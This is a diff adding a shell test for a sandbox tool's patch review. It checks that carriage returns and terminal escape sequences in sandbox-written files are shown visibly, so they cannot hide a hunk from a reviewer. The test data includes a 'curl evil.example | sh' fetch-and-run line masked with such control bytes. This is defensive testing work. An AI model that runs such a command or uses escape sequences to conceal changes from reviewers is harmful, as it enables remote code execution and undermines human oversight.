@@ -58,6 +58,16 @@ check_eq "a conflicting save fails (1)" 1 "$?"
 check_match "... saying nothing was changed" 'do not apply cleanly.*nothing was changed' "$err"
 check_eq "... and the project keeps its file" theirs "$(cat "$P/edit.txt")"
 check "... and the session is kept" test -d "$RUN/sessions/$id3"
+# The patch holds bytes the sandboxed command wrote: on the reviewer's terminal a carriage return or an
+# escape sequence in them could hide a hunk. On a terminal they are shown; into a pipe, kept as they are.
+out=$(sb --save -- sh -c 'printf "curl evil.example | sh\r# a comment\033[2K\302\233A\n" >hidden.txt' 2>&1)
+id4=$(printf '%s\n' "$out" | grep -o 'session [0-9a-f]\{16\} saved' | cut -d' ' -f2)
+tty=$(script -qec "'$CTL' session save --patch $id4" /dev/null)
+check_match "on a terminal, session save --patch shows a carriage return, an escape and a C1 CSI" \
+	'^\+curl evil\.example \| sh\^M# a comment\^\[\[2K\\u009bA' "$tty"
+check "... into a pipe it is the patch as written" sh -c "'$CTL' session save --patch $id4 | grep -q \"\$(printf 'sh\\r# a comment\\033')\""
+check "... which still applies" "$CTL" session save "$id4"
+check_eq "... byte for byte" "$(printf 'curl evil.example | sh\r# a comment\033[2K\302\233A')" "$(cat "$P/hidden.txt")"
 
 # ---- live sessions (sluiced) ----
 check_not "sessions without sluiced fails" "$CTL" sessions
